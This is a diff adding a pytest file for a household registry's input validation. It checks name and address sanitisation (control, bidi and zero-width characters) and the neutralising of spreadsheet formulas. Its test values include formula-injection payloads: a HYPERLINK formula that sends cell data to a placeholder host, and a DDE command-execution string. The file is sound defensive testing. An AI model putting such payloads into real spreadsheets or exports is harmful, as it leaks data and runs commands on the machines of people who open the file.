@@ -1,0 +1,142 @@
+"""Hostile text: names and addresses (``common.text``), formulas in cells (``common.spreadsheet``)."""
+
+from __future__ import annotations
+
+import copy
+from typing import Any
+
+import pytest
+from pydantic import ValidationError
+
+from common.contracts.households import HouseholdIn, HouseholdUpdate
+from common.contracts.people import IndividualOut
+from common.spreadsheet import formula_fields, formula_like, neutralise, neutralise_row
+
+HOUSEHOLD: dict[str, Any] = {
+    "area": "/DZ/16/1601",
+    "address": "12 rue Didouche Mourad",
+    "members": [
+        {
+            "given_name_ar": "محمد",
+            "family_name_ar": "بن علي",
+            "given_name_lat": "Mohamed",
+            "family_name_lat": "Benali",
+            "sex": "M",
+            "relationship": "head",
+        }
+    ],
+}
+
+
+def registered(address: str | None = None, **head: Any) -> HouseholdIn:
+    payload = copy.deepcopy(HOUSEHOLD)
+    payload["members"][0].update(head)
+    if address is not None:
+        payload["address"] = address
+    return HouseholdIn.model_validate(payload)
+
+
+def refusal(address: str | None = None, **head: Any) -> set[tuple[str, str]]:
+    with pytest.raises(ValidationError) as caught:
+        registered(address, **head)
+    return {(".".join(map(str, e["loc"])), e["type"]) for e in caught.value.errors()}
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "\x00\x00\x00",  # NUL
+        "\x1b[31mAli",  # an ANSI escape
+        "Ali\x7f",  # DEL
+        "\u200b\u200c\u200d",  # zero-width only
+        "\u202e\u2066\u200f",  # bidi controls only
+        " \u00a0 ",  # blanks only
+        "...",  # no letter
+        "",
+    ],
+)
+def test_names_with_controls_or_nothing_visible_are_refused(name: str) -> None:
+    assert refusal(given_name_lat=name) == {("members.0.given_name_lat", "invalid_name")}
+
+
+def test_bidi_overrides_and_zero_width_characters_are_removed() -> None:
+    head = registered(
+        given_name_lat="\u202eilA\u202c", family_name_lat="Ben\u200bali", family_name_ar="بن\u200dعلي"
+    ).members[0]
+    assert (head.given_name_lat, head.family_name_lat, head.family_name_ar) == ("ilA", "Benali", "بنعلي")
+
+
+def test_names_are_stored_in_nfc_and_arabic_and_latin_names_keep_working() -> None:
+    head = registered(given_name_lat="Zoubi\u0301r", given_name_ar="عبد الرَّحمن", family_name_ar="بـن علي").members[0]
+    assert head.given_name_lat == "Zoubír"  # one code point for the accented letter
+    assert head.given_name_ar == "عبد الرَّحمن"  # harakat kept
+    assert head.family_name_ar == "بـن علي"  # a kashida is a visible letter
+    assert (
+        registered(given_name_lat="Aït-Ouméziane", family_name_lat="N'Goran").members[0].given_name_lat
+        == "Aït-Ouméziane"
+    )
+
+
+def test_a_name_cleaned_to_nothing_does_not_fall_back_on_the_other_script() -> None:
+    """Both scripts given, one invisible: refused, not silently dropped."""
+    assert refusal(given_name_lat="\u2067\u2069") == {("members.0.given_name_lat", "invalid_name")}
+
+
+def test_the_length_limit_applies_to_the_cleaned_name() -> None:
+    assert registered(given_name_lat="A" * 80 + "\u200b" * 10).members[0].given_name_lat == "A" * 80
+
+
+def test_stored_names_are_answered_as_they_are() -> None:
+    """Records stored before the check still read (a clean-up is the registry's job, not the response's)."""
+    stored = IndividualOut.model_validate(
+        {"given_name_lat": "A\u200bli", "family_name_lat": "B", "sex": "M", "relationship": "head"}
+    )
+    assert stored.given_name_lat == "A\u200bli"
+
+
+def test_addresses_refuse_controls_but_keep_line_breaks() -> None:
+    assert refusal(address="12 rue A\x00") == {("address", "invalid_address")}
+    assert refusal(address="\u200b\u200b\u200b\u200b") == {("address", "invalid_address")}
+    assert registered(address="Cité 5, bloc A\nporte 3").address == "Cité 5, bloc A\nporte 3"
+    assert registered(address="\u202e12 شارع ديدوش مراد").address == "12 شارع ديدوش مراد"
+    with pytest.raises(ValidationError) as caught:
+        HouseholdUpdate.model_validate({"address": "rue\x1b B"})
+    assert caught.value.errors()[0]["type"] == "invalid_address"
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "=1+2*A1",
+        '=HYPERLINK("http://x.example/?d="&A1,"Benali")',
+        "+SUM(A1:A9)",
+        "-Ali",
+        "@cmd",
+        "\tfoo",
+        "\r=1",
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_cells_a_spreadsheet_would_evaluate_are_neutralised(value: str) -> None:
+    assert formula_like(value)
+    assert neutralise(value) == "'" + value
+    assert not formula_like(neutralise(value))
+
+
+@pytest.mark.parametrize(
+    "value", ["+213550123456", "+213 550 12 34 56", "-12.5", "-", "Benali", "a=b", "بن علي", "", 5, None]
+)
+def test_phones_numbers_and_plain_text_are_left_alone(value: object) -> None:
+    assert not formula_like(value)
+    assert neutralise(value) == value
+
+
+def test_rows_and_nested_records_are_searched_field_by_field() -> None:
+    row = {"reference": "r-1", "failure": "=HYPERLINK(1)", "amount": -5}
+    assert neutralise_row(row) == {"reference": "r-1", "failure": "'=HYPERLINK(1)", "amount": -5}
+    nested = {
+        "address": "@x",
+        "members": [{"given_name_lat": "Ali", "phone": "+213550123456"}, {"family_name_lat": "=A1"}],
+        "tags": ["-x", "ok"],
+    }
+    assert list(formula_fields(nested)) == ["address", "members.1.family_name_lat", "tags.0"]
